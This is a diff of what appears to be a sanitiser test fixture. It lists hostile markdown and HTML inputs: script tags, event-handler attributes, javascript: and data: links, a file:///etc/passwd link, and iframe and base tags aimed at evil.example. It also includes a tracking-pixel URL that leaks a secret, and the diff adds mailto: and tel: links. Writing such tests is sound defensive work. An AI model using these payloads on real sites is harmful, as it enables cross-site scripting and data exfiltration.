@@ -10,7 +10,7 @@ const MARKUP = [
   '<script>globalThis.ran = 1</script>',
   '<img src="http://evil.example/a.png" onerror="globalThis.ran = 2">',
   '![tracking](http://evil.example/pixel.png?q=secret)',
-  '[click](javascript:globalThis.ran=3) [data](data:text/html,<script>globalThis.ran=4</script>) [file](file:///etc/passwd)',
+  '[click](javascript:globalThis.ran=3) [data](data:text/html,<script>globalThis.ran=4</script>) [file](file:///etc/passwd) [mail](mailto:eve@evil.example) [call](tel:+15550100)',
   '<iframe src="http://evil.example/"></iframe><style>body { display: none }</style><base href="http://evil.example/">',
   '| <b onclick="globalThis.ran=5">x</b> |\n|---|\n| <svg onload="globalThis.ran=6"> |',
   '```html\n<script>globalThis.ran = 7</script>\n```',
